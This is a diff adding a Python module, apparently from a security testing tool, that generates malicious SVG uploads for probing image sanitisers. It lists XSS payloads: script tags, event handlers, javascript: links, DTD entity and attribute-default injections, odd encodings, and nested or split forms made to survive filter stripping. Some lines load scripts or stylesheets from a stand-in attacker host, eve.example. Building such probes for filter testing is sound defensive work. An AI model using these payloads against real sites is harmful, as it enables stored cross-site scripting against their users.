@@ -1,0 +1,137 @@
+"""SVG drawings that run code, or bring what may, in every place and in forms that pass filters.
+
+Each is bytes, an XML document that begins as a drawing does; some are one only after a filter has taken something out.
+`probes.drawings.foreign` tells what a browser finds in what became of it. See SVG 2, "Scripting and Interactivity", and
+XML 1.0, sections 3.3.2 (default attributes) and 4.4 (entities).
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from xml.sax.saxutils import escape, quoteattr
+
+from probes.grammars import evasions
+from probes.grammars.ranked import in_turn, ranked
+
+_SVG, _PAGE = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml"
+_SCRIPT = "<script>alert(1)</script>"
+_LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"'
+#: What runs, or loads what runs, when it stands within a drawing.
+_INSIDE = (
+    (_SCRIPT, '<g onload="alert(1)"/>', '<a href="javascript:alert(1)"><path d="M0 0h9"/></a>', _SCRIPT * 2),
+    (
+        f'<s:script xmlns:s="{_SVG}">alert(1)</s:script>',
+        f'<script xmlns="{_PAGE}">alert(1)</script>',
+        f'<foreignObject><body xmlns="{_PAGE}" onload="alert(1)"/></foreignObject>',
+        f'<a {_LINK}><path d="M0 0h9"/></a>',
+        '<path d="M0 0h9" onmouseover="alert(1)"/>',
+        '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
+        '<rect x="1"\n\tonclick\n=\n\'alert(1)\'/>',
+        "<script\n>alert(1)</script\n>",
+        '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
+        '<image href="x" onerror="alert(1)"/>',
+        '<set attributeName="onmouseover" to="alert(1)"/>',
+        "<style>@import '//eve.example/x.css';</style>",
+        f'<iframe xmlns="{_PAGE}" src="javascript:alert(1)"/>',
+        '<script href="//eve.example/x.js"/>',
+        f'<h:embed xmlns:h="{_PAGE}" src="javascript:alert(1)"/>',
+        "<SCRIPT>alert(1)</SCRIPT>",
+        '<g ONCLICK="alert(1)"/>',
+        f"{_SCRIPT}<g/>{_SCRIPT}{_SCRIPT}",
+        '<a><animate attributeName="href" values="javascript:alert(1)"/><path d="M0 0h9"/></a>',
+        '<discard onend="alert(1)"/>',
+        '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click"/>',
+    ),
+)
+_PLACES = (
+    ("{}", "<g>{}</g>"),
+    (
+        "<title>{}</title>",
+        "<g><g>{}</g></g>",
+        "<path d='M0 0h9'>{}</path>",
+        "<metadata>{}</metadata>",
+        '<x:y xmlns:x="urn:x">{}</x:y>',
+        "<!-- x -->{}<!-- y -->",
+        "<g/>x{}y",
+        "<?x y?>{}",
+        "<unknown>{}</unknown>",
+        "<g>" * 40 + "{}" + "</g>" * 40,
+    ),
+)
+#: In the document type, before the element; some with what has to stand inside.
+_TYPES = (
+    ('<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>', ""),
+    (f'<!DOCTYPE svg [<!ENTITY x "{_SCRIPT}">]>', "&x;"),
+    ('<!DOCTYPE svg [<!ATTLIST path onclick CDATA #FIXED "alert(1)">]>', ""),
+    ('<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>', "<title>&x;</title>"),
+    ('<!DOCTYPE svg [<!ENTITY y "<script>"><!ENTITY x "&y;alert(1)</script>">]>', "<g>&x;</g>"),
+    ('<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>', ""),
+    ('<?xml-stylesheet type="text/css" href="//eve.example/x.css"?><!-- x -->', ""),
+    ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd" [<!ATTLIST svg onload CDATA "alert(1)">]>', ""),
+)
+#: Text and values that are markup when they are written without being escaped again.
+_UNESCAPED = (
+    f"<title>{escape(_SCRIPT)}</title>",
+    f"<title><![CDATA[{_SCRIPT}]]></title>",
+    f"<title>x</title>{escape(_SCRIPT)}",
+    f'<path d={quoteattr(f"M0 0h9{chr(34)}/>{_SCRIPT}<path d={chr(34)}")}/>',
+    "<path d='M0 0h9\" onclick=\"alert(1)'/>",
+    "<path d=\"M0 0h9' onclick='alert(1)\"/>",
+    f"<title>{escape(escape(_SCRIPT))}</title>",
+    f"<title>]]&gt;{escape(_SCRIPT)}</title>",
+    f"<!-- --&gt; -->{escape(_SCRIPT)}",
+    f"<g id={quoteattr(f'--><title>{_SCRIPT}')}/>",
+)
+#: No XML, and one when something has been taken out.
+_THINNED = (
+    "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
+    "<scr<script>x</script>ipt>alert(1)</scr<script>x</script>ipt>",
+    "<g on<!-- -->load='alert(1)'/>",
+    "<g ononloadload='alert(1)'/>",
+    "<g onx=\"\"onload='alert(1)'/>",
+    "<<script/>script>alert(1)<</script>/script>",
+    "<script\0>alert(1)</script>",
+    "<![CDATA[<script>]]>alert(1)</script>",
+)
+
+
+def document(inside: str = "", attributes: str = "", before: str = "") -> str:
+    """A drawing of one line."""
+    return f'{before}<svg xmlns="{_SVG}" viewBox="0 0 9 9"{attributes}><path d="M0 0h9"/>{inside}</svg>'
+
+
+def documents() -> Iterator[bytes]:
+    """Drawings as they are uploaded, likely ones first."""
+    yield from (one.encode() for one in (document(_SCRIPT), document(attributes=' onload="alert(1)"')))
+    yield from in_turn(
+        (document(place.format(inside)).encode() for inside, place in ranked(_INSIDE, _PLACES)),
+        (document(inside, before=before).encode() for before, inside in _TYPES),
+        (document(inside).encode() for inside in _UNESCAPED),
+        (document(inside).encode() for inside in _THINNED),
+        _encoded(),
+        (
+            one.encode("utf-8", "replace")
+            for inside in (_SCRIPT, '<g onload="alert(1)"/>')
+            for one in map(document, evasions.evading(inside))
+        ),
+    )
+
+
+def _encoded() -> Iterator[bytes]:
+    """In other encodings, with another prefix, and behind what may stand before a drawing."""
+    script, handler = document(_SCRIPT), document(attributes=' onload="alert(1)"')
+    declared = '<?xml version="1.0" encoding="{}"?>'
+    for text in (script, handler):
+        yield text.encode("utf-16")
+        yield (declared.format("UTF-16") + text).encode("utf-16")
+        yield b"\xef\xbb\xbf" + text.encode()
+        yield (declared.format("ISO-8859-1") + text).encode()
+        yield (declared.format("UTF-8") + "\n<!-- <svg></svg> -->\n" + text).encode()
+        yield b"\xfe\xff" + text.encode("utf-16-be")
+    named = script.replace("<svg xmlns=", "<s:svg xmlns:s=").replace("</svg", "</s:svg").replace("script>", "s:script>")
+    yield named.replace("<path", "<s:path").encode()
+    yield script.replace("<svg ", "<g ").replace("</svg", "</g").encode()
+    yield f'<html xmlns="{_PAGE}">{script}</html>'.encode()
+    yield f"{document()}{script}".encode()
+    yield script.replace("</svg>", "").encode()
+    yield f"{script}<x".encode()
